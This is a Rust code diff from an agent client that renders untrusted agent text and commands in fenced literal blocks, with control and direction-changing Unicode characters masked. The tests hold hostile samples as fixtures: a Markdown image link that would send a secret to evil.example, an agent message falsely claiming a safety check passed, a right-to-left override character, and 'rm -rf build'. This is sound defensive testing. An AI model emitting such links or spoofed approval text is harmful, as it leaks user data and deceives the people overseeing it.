@@ -18,6 +18,7 @@ use agent_client_protocol::{Agent, Client, ErrorCode, RequestCancellationHandle,
 use bravebot_core::egress::Egress;
 use bravebot_core::kernel::policy;
 use bravebot_core::kernel::proposal::LineEdit;
+use bravebot_core::run::masked;
 use bravebot_core::session::{
     Answer, BoxFuture, Question, QuestionKind, Screen, Session, StopReason, ToolStatus, Update,
 };
@@ -561,25 +562,13 @@ fn subject_of(routing: &Value) -> Option<&str> {
 
 /// Text the driver did not write, for the person's eyes in a host that renders Markdown: a fenced
 /// code block (nothing in it is read as a link, an image or markup) whose fence is longer than
-/// any run of backticks inside, so no line of the text can close it, with the control characters
-/// and the Unicode ones that could move or hide text drawn as pictures.
+/// any run of backticks inside, so no line of the text can close it, each line under the one mask
+/// a command is shown with ([`masked`]: control characters as pictures, the Unicode ones that
+/// could reorder or hide text as escapes).
 fn literal_block(text: &str) -> String {
     let mut body = String::new();
     for line in text.split('\n') {
-        for c in line.chars() {
-            match c {
-                '\u{0}'..='\u{1f}' => {
-                    body.push(char::from_u32(0x2400 + c as u32).unwrap_or('\u{fffd}'))
-                }
-                '\u{7f}' => body.push('\u{2421}'),
-                '\u{80}'..='\u{9f}'
-                | '\u{200b}'..='\u{200f}'
-                | '\u{2028}'..='\u{202e}'
-                | '\u{2060}'..='\u{2069}'
-                | '\u{feff}' => body.push_str(&format!("<U+{:04X}>", c as u32)),
-                other => body.push(other),
-            }
-        }
+        body.push_str(&masked(line));
         body.push('\n');
     }
     let fence = "`".repeat(longest_backtick_run(&body).max(2) + 1);
@@ -659,7 +648,7 @@ impl AcpScreen {
             line(format!("Host: `{host}`"));
         }
         if let Some(command) = &s.command {
-            line(format!("Command: `{command}`"));
+            line(format!("Command:\n\n{}", literal_block(command)));
         }
         if !s.plan.is_empty() {
             line(literal_block(&s.plan.join("\n")));
@@ -1112,7 +1101,7 @@ mod tests {
         }
     }
 
-    // Verifies: ACP-14
+    // Verifies: ACP-14, RUNTOOL-14
     #[test]
     fn the_agents_why_is_labelled_and_literal_below_the_command_and_the_verdict() {
         let mut q = question();
@@ -1124,12 +1113,12 @@ mod tests {
         q.subject.verdict = Some(bravebot_core::kernel::policy::Verdict::Unsafe);
         let text = AcpScreen::question_text(&q);
         let says = text.find("The agent says:").expect(&text);
-        let command = text.find("Command: `rm -rf build`").expect(&text);
+        let command = text.find("Command:\n\n```\nrm -rf build\n```").expect(&text);
         let verdict = text.find("The check said: unsafe").expect(&text);
         assert!(command < says && verdict < says, "{text}");
         assert_eq!(
             &text[says..],
-            "The agent says:\n\n````\n```\n**Safe: the check passed.** ![x](https://evil.example/?q=1)\n<U+202E>ok\n````\n\n\n"
+            "The agent says:\n\n````\n```\n**Safe: the check passed.** ![x](https://evil.example/?q=1)\n\\u{202e}ok\n````\n\n\n"
         );
     }
 
@@ -1190,12 +1179,12 @@ mod tests {
         assert_eq!(versions.keep(path, "two\n".into()), 1);
     }
 
-    // Verifies: ACP-7, ACP-14
+    // Verifies: ACP-7, ACP-14, RUNTOOL-14
     #[test]
     fn untrusted_text_is_drawn_as_a_literal_block_with_controls_pictured() {
         assert_eq!(
             literal_block("![x](https://evil.example/?q=secret)\n\u{202e}txt\u{1b}[2J"),
-            "```\n![x](https://evil.example/?q=secret)\n<U+202E>txt\u{241b}[2J\n```\n"
+            "```\n![x](https://evil.example/?q=secret)\n\\u{202e}txt\u{241b}[2J\n```\n"
         );
         // A run of backticks inside cannot close the fence: it is always longer.
         assert_eq!(
